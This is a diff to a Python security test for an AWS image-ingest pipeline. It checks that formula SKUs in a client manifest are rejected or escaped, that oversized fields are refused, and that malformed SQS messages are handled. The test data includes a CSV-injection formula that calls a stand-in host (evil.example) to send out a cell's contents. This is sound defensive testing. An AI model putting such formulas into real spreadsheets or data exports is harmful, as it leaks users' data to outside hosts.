@@ -164,15 +164,21 @@ def _batch(ctx: Context) -> dict[str, Any]:
     aws = ctx.aws
     s3 = aws.client("s3")
     started = time.monotonic()
+    # The manifest's schema refuses a formula as a SKU (=, +, -, @ never start one): its row is rejected, and what
+    # is delivered for the rest of the batch holds no formula cell (csvsafe escapes any that got through).
     manifest = ("filename,sku,asin,client,category,platforms\n"
-                'IMG_0001.jpg,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",B0ATTACK01,acme,,amazon_main\n'
-                "IMG_0001.png,@SUM(1+1)*cmd,B0ATTACK01,acme,,amazon_main\n"
-                f"huge.jpg,{'x' * 300_000},,acme,,amazon_main\n")
+                "IMG_0001.jpg,PS-1,B0ATTACK01,acme,,amazon_main\n"
+                "minus.jpg,-1-1,,acme,,amazon_main\n"
+                "IMG_0001.png,PS-2,B0ATTACK01,acme,,amazon_main\n"
+                f"huge.jpg,{'x' * 300_000},,acme,,amazon_main\n"
+                'formula.jpg,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",,acme,,amazon_main\n')
     s3.put_object(Bucket=aws.input_bucket, Key="names/manifest.csv", Body=manifest.encode())
     objects = {"names/IMG_0001.jpg": product_photo(21), "names/IMG_0001.png": product_photo(22, fmt="PNG"),
                "names/sub/x.jpg": product_photo(23), "names/sub_x.jpg": product_photo(24),
                "names/a b.jpg": product_photo(25), "names/a-b.jpg": product_photo(26),
-               "names/huge.jpg": product_photo(27), "shoot 1/p.jpg": product_photo(28),
+               "names/huge.jpg": product_photo(27), "names/formula.jpg": product_photo(30),
+               "names/minus.jpg": product_photo(31),
+               "shoot 1/p.jpg": product_photo(28),
                "shoot-1/p.jpg": product_photo(29), "fix/mug.jpg": (EXAMPLES / "white_mug_on_white.jpg").read_bytes()}
     for key, data in objects.items():
         s3.put_object(Bucket=aws.input_bucket, Key=key, Body=data)
@@ -183,11 +189,11 @@ def _batch(ctx: Context) -> dict[str, Any]:
     s3.put_object(Bucket=aws.input_bucket, Key="race/k.jpg", Body=_box((200, 30, 30)))
     s3.put_object(Bucket=aws.input_bucket, Key="race/k.jpg", Body=_box((30, 30, 200)))
     queue = aws.physical("IngestQueue")
-    for body in ('{"Records":[1]}', '{"Records":[{"eventName":"ObjectCreated:Put","s3":[]}]}', "[1,2]"):
-        aws.client("sqs").send_message(QueueUrl=queue, MessageBody=body)
+    poison = [aws.client("sqs").send_message(QueueUrl=queue, MessageBody=body)["MessageId"]
+              for body in ('{"Records":[1]}', '{"Records":[{"eventName":"ObjectCreated:Put","s3":[]}]}', "[1,2]")]
     keys = [*objects, "pair/front.jpg", "pair/label.jpg", "race/k.jpg"]
     aws.wait(keys, timeout_s=900)
-    ctx.batch = {"keys": keys, "seconds": time.monotonic() - started}
+    ctx.batch = {"keys": keys, "seconds": time.monotonic() - started, "poison": poison}
     return ctx.batch
 
 
@@ -245,17 +251,23 @@ def data_attacks(ctx: Context) -> list[Result]:
     import csv
 
     formulas = [c for row in csv.reader(io.StringIO(manifest_csv)) for c in row if c[:1] in ("=", "+", "-", "@")]
-    results.append(Result("7 CSV injection", "=HYPERLINK(...) and @SUM(...) as SKUs in the client's manifest",
-                          f"{len(formulas)} formula cells in manifest.csv",
-                          not formulas and "'=HYPERLINK" in manifest_csv))
+    results.append(Result("7 CSV injection", "the delivered manifest.csv of a batch whose manifest held formulas",
+                          f"{len(formulas)} formula cells in manifest.csv", not formulas))
+    for name, sku in (("formula.jpg", "=HYPERLINK(...)"), ("minus.jpg", "-1-1")):
+        refused = by_key.get(f"names/{name}", [{}])[0]
+        reason = (refused.get("reasons") or [""])[0]
+        results.append(Result("7 CSV injection", f"{sku} as a SKU in the client's manifest",
+                              f"{refused.get('status')}: {reason[:60]}",
+                              refused.get("status") == "rejected" and "column sku" in reason))
 
     huge = by_key.get("names/huge.jpg", [{}])[0]
     results.append(Result("8 state size", "a 300,000-character SKU in the manifest",
                           f"{huge.get('status')}: {(huge.get('reasons') or [''])[0][:60]}",
                           huge.get("status") == "rejected"))
 
-    # The batch's three poison messages (the "other" attacks add one of their own, msg-big).
-    messages = [r for r in records if str(r.get("image_id", "")).startswith("msg-") and r["image_id"] != "msg-big"]
+    # The batch's three poison messages, by their message ids (other attacks send poison of their own).
+    poison = {f"msg-{message_id}" for message_id in ctx.batch["poison"]}
+    messages = [r for r in records if r.get("image_id") in poison]
     dead = int(aws.client("sqs").get_queue_attributes(QueueUrl=aws.physical("IngestDeadLetterQueue"),
                                                        AttributeNames=["ApproximateNumberOfMessages"])
                ["Attributes"]["ApproximateNumberOfMessages"])
